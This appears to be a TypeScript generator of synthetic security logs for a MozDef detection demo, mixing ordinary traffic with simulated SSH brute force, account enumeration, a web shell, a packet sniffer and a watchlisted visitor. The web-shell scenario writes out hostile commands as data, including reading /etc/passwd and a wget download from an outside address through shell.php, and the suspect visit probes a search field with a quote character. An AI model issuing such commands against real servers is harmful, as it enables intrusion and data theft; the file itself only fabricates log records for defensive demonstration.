/** An event as a shipper would send it: MozDef's vocabulary, one JSON object. */
export type DemoEvent = Readonly<Record<string, unknown>>;

/** A number in [0, 1); given, so that a test can repeat a scene. */
export type Random = () => number;

const HOSTS = ['web-01', 'web-02', 'db-01', 'build-07', 'vpn-gw-1', 'mail-01'] as const;
const PEOPLE = ['mara', 'idris', 'noor', 'tove', 'svc-deploy', 'svc-backup'] as const;
/** On the watchlist of the demonstration. */
export const SUSPECT = '203.0.113.66';

const PAGES = ['/', '/login', '/api/orders', '/static/app.js', '/health', '/search?q=shoes', '/cart'] as const;

/** Addresses reserved for documentation: nobody real is accused. */
function stranger(random: Random): string {
  return `${pick(random, ['192.0.2', '198.51.100', '203.0.113'])}.${1 + Math.floor(random() * 250)}`;
}

function colleague(random: Random): string {
  return `10.20.${Math.floor(random() * 8)}.${1 + Math.floor(random() * 250)}`;
}

function pick<T>(random: Random, choices: readonly T[]): T {
  return choices[Math.floor(random() * choices.length)] as T;
}

interface Line {
  readonly at: Date;
  readonly host: string;
  readonly program: string;
  readonly pid: number;
  readonly message: string;
}

function syslog({ at, host, program, pid, message }: Line): DemoEvent {
  return {
    timestamp: at.toISOString(),
    hostname: host,
    program,
    processid: pid,
    severity: 'info',
    category: 'syslog',
    summary: message,
  };
}

function sshd(random: Random, at: Date, host: string, message: string): DemoEvent {
  return syslog({ at, host, program: 'sshd', pid: 2_000 + Math.floor(random() * 30_000), message });
}

function port(random: Random): number {
  return 30_000 + Math.floor(random() * 30_000);
}

type Ordinary = (random: Random, at: Date) => DemoEvent;

const ordinaryKinds: readonly Ordinary[] = [
  (random, at) =>
    sshd(
      random,
      at,
      pick(random, HOSTS),
      `Accepted publickey for ${pick(random, PEOPLE)} from ${colleague(random)} port ${port(random)} ssh2`,
    ),
  (random, at) =>
    sshd(random, at, pick(random, HOSTS), `pam_unix(sshd:session): session closed for user ${pick(random, PEOPLE)}`),
  (random, at) =>
    sshd(
      random,
      at,
      'vpn-gw-1',
      `Failed password for ${pick(random, PEOPLE)} from ${colleague(random)} port ${port(random)} ssh2`,
    ),
  (random, at) =>
    syslog({
      at,
      host: pick(random, HOSTS),
      program: 'CRON',
      pid: port(random),
      message: '(root) CMD (/usr/local/bin/rotate-logs)',
    }),
  (random, at) =>
    syslog({
      at,
      host: 'build-07',
      program: 'sudo',
      pid: port(random),
      message: `${pick(random, PEOPLE)} : TTY=pts/1 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl reload app`,
    }),
  (random, at) =>
    webRequest(at, {
      host: pick(random, ['web-01', 'web-02']),
      from: stranger(random),
      uri: pick(random, PAGES),
      status: random() < 0.95 ? 200 : 404,
    }),
];

interface WebRequest {
  readonly host: string;
  readonly from: string;
  readonly uri: string;
  readonly status: number;
}

function webRequest(at: Date, { host, from, uri, status }: WebRequest): DemoEvent {
  return {
    timestamp: at.toISOString(),
    hostname: host,
    program: 'nginx',
    category: 'web',
    summary: `${from} GET ${uri} ${status}`,
    details: { sourceipaddress: from, uri, 'http.request.method': 'GET', 'http.response.status_code': status },
  };
}

/** One second of a small company at work. */
export function ordinaryTraffic(random: Random, at: Date, count: number): DemoEvent[] {
  return Array.from({ length: count }, () => pick(random, ordinaryKinds)(random, at));
}

/** Attacks, each as the events of its seconds; they are told one after the other, for ever. */
export const attacks: readonly {
  readonly name: string;
  readonly seconds: (random: Random) => readonly ((at: Date) => DemoEvent[])[];
}[] = [
  { name: 'password guessing that succeeds', seconds: passwordGuessing },
  { name: 'a search for accounts that do not exist', seconds: accountSearch },
  { name: 'a web shell', seconds: webShell },
  { name: 'a sniffer on a server', seconds: sniffer },
  { name: 'a visitor who is on the watchlist', seconds: suspectVisit },
];

function passwordGuessing(random: Random): ((at: Date) => DemoEvent[])[] {
  const from = stranger(random);
  const host = pick(random, HOSTS);
  const guess = (at: Date): DemoEvent[] => [
    sshd(random, at, host, `Failed password for root from ${from} port ${port(random)} ssh2`),
    sshd(random, at, host, `Failed password for root from ${from} port ${port(random)} ssh2`),
  ];
  const success = (at: Date): DemoEvent[] => [
    sshd(random, at, host, `Accepted password for root from ${from} port ${port(random)} ssh2`),
  ];
  return [...Array.from({ length: 12 }, () => guess), success];
}

function accountSearch(random: Random): ((at: Date) => DemoEvent[])[] {
  const from = stranger(random);
  const names = [
    'admin',
    'test',
    'oracle',
    'postgres',
    'ubuntu',
    'git',
    'jenkins',
    'pi',
    'guest',
    'ftp',
    'www',
    'backup',
  ];
  return names.map((name) => (at) => [
    sshd(random, at, 'web-02', `Invalid user ${name} from ${from} port ${port(random)}`),
    sshd(random, at, 'web-02', `Failed password for invalid user ${name} from ${from} port ${port(random)} ssh2`),
  ]);
}

function webShell(random: Random): ((at: Date) => DemoEvent[])[] {
  const from = stranger(random);
  const commands = ['id', 'uname -a', 'cat /etc/passwd', 'wget http://198.51.100.99/x'];
  return commands.map((command) => (at) => [
    webRequest(at, { host: 'web-01', from, uri: `/uploads/shell.php?cmd=${encodeURIComponent(command)}`, status: 200 }),
  ]);
}

function sniffer(): ((at: Date) => DemoEvent[])[] {
  return [
    (at) => [
      {
        ...syslog({ at, host: 'db-01', program: 'kernel', pid: 0, message: 'device eth0 entered promiscuous mode' }),
        facility: 'kern',
      },
    ],
  ];
}

function suspectVisit(): ((at: Date) => DemoEvent[])[] {
  return ['/', '/search?q=%27', '/login'].map((uri) => (at) => [
    webRequest(at, { host: 'web-02', from: SUSPECT, uri, status: 200 }),
  ]);
}
